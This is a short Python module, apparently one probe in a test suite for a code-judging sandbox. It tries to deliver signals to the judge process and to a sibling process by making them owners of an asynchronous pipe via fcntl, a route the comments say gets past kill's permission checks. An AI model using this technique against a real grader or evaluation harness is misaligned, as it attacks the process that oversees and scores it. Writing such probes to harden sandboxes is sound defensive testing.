# attack: Makes the judge the owner of a pipe, so that the kernel signals it when something happens there.
# hurts: Sends the judge signals that kill would refuse.
# ends: returns
import fcntl
import os
import signal
import struct

from _raw import attempt

SET_SIGNAL, SET_OWNER_EX = 10, 15


def attack(target):
    tried = []
    for pid in (target["judge_pid"], target["sibling_outer_pid"]):
        reading, writing = os.pipe()
        tried.append(attempt("signal", fcntl.fcntl, reading, SET_SIGNAL, signal.SIGUSR1))
        tried.append(attempt("owner", fcntl.fcntl, reading, fcntl.F_SETOWN, pid))
        tried.append(attempt("thread", fcntl.fcntl, reading, SET_OWNER_EX, struct.pack("ii", 0, pid)))
        fcntl.fcntl(reading, fcntl.F_SETFL, os.O_ASYNC)
        os.write(writing, b"x")
        os.close(reading)
        os.close(writing)
    return tried
